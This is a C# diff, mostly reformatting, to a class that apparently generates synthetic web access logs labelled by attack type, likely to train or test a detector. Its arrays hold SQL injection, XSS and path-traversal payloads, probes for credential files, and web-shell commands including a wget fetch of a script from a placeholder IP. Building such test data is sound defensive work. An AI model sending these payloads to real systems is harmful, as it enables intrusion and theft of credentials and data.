@@ -7,24 +7,30 @@ internal sealed class AccessIncidents
 {
     private static readonly string[] s_scannedPaths =
     [
-        "/wp-login.php", "/.env", "/.git/config", "/xmlrpc.php", "/phpmyadmin/index.php", "/wp-admin/install.php", "/.aws/credentials",
-        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/backup.zip", "/config.php.bak", "/.git/HEAD", "/server-status",
-        "/actuator/env", "/solr/admin/info/system", "/boaform/admin/formLogin", "/cgi-bin/luci", "/.svn/entries", "/db.sql",
+        "/wp-login.php", "/.env", "/.git/config", "/xmlrpc.php", "/phpmyadmin/index.php", "/wp-admin/install.php",
+        "/.aws/credentials",
+        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/backup.zip", "/config.php.bak", "/.git/HEAD",
+        "/server-status",
+        "/actuator/env", "/solr/admin/info/system", "/boaform/admin/formLogin", "/cgi-bin/luci", "/.svn/entries",
+        "/db.sql",
         "/owa/auth/logon.aspx", "/administrator/index.php", "/.DS_Store", "/wp-content/plugins/file-manager/readme.txt",
     ];
 
     private static readonly string[] s_scannerAgents =
-        ["python-requests/2.32.3", "Mozilla/5.0 zgrab/0.x", "Go-http-client/1.1", "-", "curl/8.5.0", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"];
+        ["python-requests/2.32.3", "Mozilla/5.0 zgrab/0.x", "Go-http-client/1.1", "-", "curl/8.5.0",
+         "Mozilla/5.0 (compatible; Nmap Scripting Engine)"];
 
     private static readonly string[] s_injections =
     [
         "/search?q=lamp%27+UNION+SELECT+user,password+FROM+users--+-", "/search?q=%27+OR+%271%27%3D%271",
-        "/products/?id=7+AND+SLEEP(5)", "/search?q=x%27%3BDROP+TABLE+orders%3B--", "/products/?id=-1+UNION+ALL+SELECT+NULL,version(),NULL",
+        "/products/?id=7+AND+SLEEP(5)", "/search?q=x%27%3BDROP+TABLE+orders%3B--",
+        "/products/?id=-1+UNION+ALL+SELECT+NULL,version(),NULL",
     ];
 
     private static readonly string[] s_scripts =
     [
-        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
+        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+        "/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
         "/contact?name=%3Csvg/onload%3Dfetch(%27//c.example.net%27)%3E",
     ];
 
@@ -34,9 +40,11 @@ internal sealed class AccessIncidents
         "/static/..%252f..%252f..%252fetc/passwd", "/media/%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
     ];
 
-    private static readonly string[] s_commands = ["id", "uname+-a", "cat+/etc/passwd", "ls+-la+/var/www", "wget+http://203.0.113.66/x.sh"];
+    private static readonly string[] s_commands =
+        ["id", "uname+-a", "cat+/etc/passwd", "ls+-la+/var/www", "wget+http://203.0.113.66/x.sh"];
     private static readonly string[] s_methods = ["TRACE", "PROPFIND", "DEBUG", "TRACK", "MKCOL"];
-    private static readonly string[] s_loot = ["/backup/customers.sql.gz", "/api/v1/export?table=customers", "/media/site-2025-12.tar.gz"];
+    private static readonly string[] s_loot =
+        ["/backup/customers.sql.gz", "/api/v1/export?table=customers", "/media/site-2025-12.tar.gz"];
 
     private readonly SeededRandom _random;
     private readonly AccessSite _site;
@@ -54,9 +62,9 @@ internal sealed class AccessIncidents
         All =
         [
             new(SyntheticLabel.Scanner, 5, 40, IncidentHours.Any, PlayScanner),
-            new(SyntheticLabel.SqlInjection, 1, 4, IncidentHours.Any, (ticks, count) => PlayProbes(ticks, count, s_injections)),
-            new(SyntheticLabel.CrossSiteScripting, 1, 3, IncidentHours.Any, (ticks, count) => PlayProbes(ticks, count, s_scripts)),
-            new(SyntheticLabel.PathTraversal, 1, 4, IncidentHours.Any, (ticks, count) => PlayProbes(ticks, count, s_traversals)),
+            new(SyntheticLabel.SqlInjection, 1, 4, IncidentHours.Any, Probes(s_injections)),
+            new(SyntheticLabel.CrossSiteScripting, 1, 3, IncidentHours.Any, Probes(s_scripts)),
+            new(SyntheticLabel.PathTraversal, 1, 4, IncidentHours.Any, Probes(s_traversals)),
             new(SyntheticLabel.ServerErrorBurst, 4, 30, IncidentHours.Any, PlayServerErrors),
             new(SyntheticLabel.Exfiltration, 1, 2, IncidentHours.Any, PlayExfiltration),
             new(SyntheticLabel.WebShell, 1, 4, IncidentHours.Any, PlayWebShell),
@@ -80,6 +88,8 @@ internal sealed class AccessIncidents
             ticks = SceneStage.Later(ticks, 0.1 + _random.NextExponential(0.5));
         }
     }
+
+    private Action<long, int> Probes(string[] targets) => (ticks, count) => PlayProbes(ticks, count, targets);
 
     private void PlayProbes(long ticks, int count, string[] targets)
     {
@@ -111,7 +121,8 @@ internal sealed class AccessIncidents
         for (int index = 0; index < count; index++)
         {
             long bytes = 1_000_000L * _random.NextInt(400, 3900);
-            _lines.Add(ticks, client, "GET", s_loot[_random.NextInt(s_loot.Length)], 200, bytes + _random.NextInt(1_000_000));
+            _lines.Add(ticks, client, "GET", s_loot[_random.NextInt(s_loot.Length)], 200,
+                bytes + _random.NextInt(1_000_000));
             ticks = SceneStage.Later(ticks, 60.0 + _random.NextExponential(120.0));
         }
     }
